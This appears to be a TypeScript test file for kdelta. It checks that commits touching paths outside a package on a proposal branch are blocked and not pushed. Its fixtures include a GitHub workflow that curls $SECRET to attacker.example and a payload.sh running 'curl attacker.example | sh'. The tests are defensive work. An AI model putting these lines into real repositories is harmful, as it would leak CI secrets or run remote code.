// Hostile commits on a proposal branch: kdelta carries a person's commits forward on top of its
// update, and the branch is then merged as kdelta's proposal. A commit that changes anything
// outside the package (a workflow that runs with the repository's secrets, a merge of an
// unrelated history) is never carried: the variant is blocked, the message names the commits and
// the paths, and nothing is pushed. Real git repositories; the local forge and the fake GitHub.
import { execFileSync } from 'node:child_process';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { packageVariant, type Fleet } from '@kdelta/test-support';
import { run, type VariantResult } from '@kdelta/run';
import { cliFleets } from './run/__fixtures__/cli-fleet.js';
import { githubFleets } from './run/__fixtures__/github-fleet.js';

const local = cliFleets();
const hub = githubFleets({ fake: { tokens: { ghs_fake: { login: 'kdelta-bot', permissions: 'all' } } }, owner: 'hostile-carry' });

const NAMESPACE = 'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: example # the namespace\n';
const PWN = 'on: push\njobs:\n  pwn:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "$SECRET" https://attacker.example\n';

const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8' }).trim();
const as = ['-c', 'user.name=Mallory', '-c', 'user.email=mallory@example.com'];

/** Where a scenario runs: the downstream's git directory, a run's result, and a person's commit on the branch. */
interface Forge {
  readonly name: string;
  setUp(): Promise<Fleet>;
  gitDir(f: Fleet): string;
  run(f: Fleet): Promise<VariantResult>;
  commit(f: Fleet, files: Record<string, string>): Promise<string>;
}

const slug = (f: Fleet) => (f as Fleet & { slug(d: string): string }).slug('cluster-01');
const forges: Forge[] = [
  {
    name: 'local forge',
    async setUp() {
      const f = local.fleet(['cluster-01']);
      f.writeControl({ 'web.yaml': packageVariant('web', 'cluster-01') });
      return f;
    },
    gitDir: (f) => f.downstream('cluster-01'),
    run: async (f) => (await run(local.opts(f))).results[0]!,
    commit: async (f, files) => f.commitAs('cluster-01', 'kdelta/web', files, 'Mallory <mallory@example.com>'),
  },
  {
    name: 'GitHub',
    setUp: () => hub.fleet(['cluster-01'], { control: { 'web.yaml': packageVariant('web', 'cluster-01') } }),
    gitDir: (f) => hub.gh.gitDir(slug(f)),
    run: async (f) => (await run(hub.runOptions(f))).results[0]!,
    commit: (f, files) => hub.gh.humanCommit(slug(f), 'kdelta/web', files, 'Tidy up\n'),
  },
];

/** A clone of the branch; `work` runs in it; pushed back. Returns the commits `work` names. */
function onBranch(f: Fleet, dir: string, work: (clone: string) => string[]): string[] {
  const clone = join(f.root, `mallory-${Date.now()}`);
  git(f.root, 'clone', '--quiet', '--branch', 'kdelta/web', dir, clone);
  const named = work(clone);
  git(clone, 'push', '--quiet', 'origin', 'HEAD:kdelta/web');
  rmSync(clone, { recursive: true, force: true });
  return named;
}

const scenarios = [
  {
    what: 'a commit that adds .github/workflows/pwn.yml',
    paths: ['.github/workflows/pwn.yml'],
    attack: async (forge: Forge, f: Fleet) => [await forge.commit(f, { '.github/workflows/pwn.yml': PWN, 'web/notes.md': 'tidy\n' })],
  },
  {
    what: 'a merge of an unrelated history',
    paths: ['payload.sh'],
    unrelated: true,
    attack: async (forge: Forge, f: Fleet) =>
      onBranch(f, forge.gitDir(f), (clone) => {
        git(clone, 'checkout', '--quiet', '--orphan', 'elsewhere');
        git(clone, 'rm', '-r', '--quiet', '-f', '.');
        execFileSync('sh', ['-c', 'printf "#!/bin/sh\\ncurl attacker.example | sh\\n" > payload.sh'], { cwd: clone });
        git(clone, 'add', 'payload.sh');
        git(clone, ...as, 'commit', '--quiet', '-m', 'elsewhere');
        const root = git(clone, 'rev-parse', 'HEAD');
        git(clone, 'checkout', '--quiet', 'kdelta/web');
        git(clone, ...as, 'merge', '--quiet', '--no-edit', '--allow-unrelated-histories', 'elsewhere');
        return [root];
      }),
  },
];

describe.each(forges)('a carried commit outside the package ($name)', (forge) => {
  it.each(scenarios)('$what: the variant is blocked, naming the commits and the paths, and nothing is pushed', async (s) => {
    const f = await forge.setUp();
    expect((await forge.run(f)).action).toBe('proposed');
    const commits = await s.attack(forge, f);
    f.publish({ 'base-ns/namespace.yaml': `${NAMESPACE}  annotations:\n    tier: gold\n` }, 'base-ns/v1');
    const refs = git(forge.gitDir(f), 'for-each-ref', '--format=%(refname) %(objectname)');

    const result = await forge.run(f);
    expect(result).toMatchObject({ action: 'blocked', writes: false });
    for (const c of commits) expect(result.message).toContain(`${c.slice(0, 12)} by `);
    for (const p of s.paths) expect(result.message).toContain(p);
    if (s.unrelated) expect(result.message).toContain('a history unrelated to the base');
    expect(result.message).toMatch(/outside the package directory web/);
    expect(result.message).toMatch(/nothing is pushed/);
    // nothing of it is pushed: every branch where it was, the base without the file
    expect(git(forge.gitDir(f), 'for-each-ref', '--format=%(refname) %(objectname)')).toBe(refs);
    for (const p of s.paths) expect(git(forge.gitDir(f), 'ls-tree', '-r', '--name-only', 'main')).not.toContain(p);
  });
});
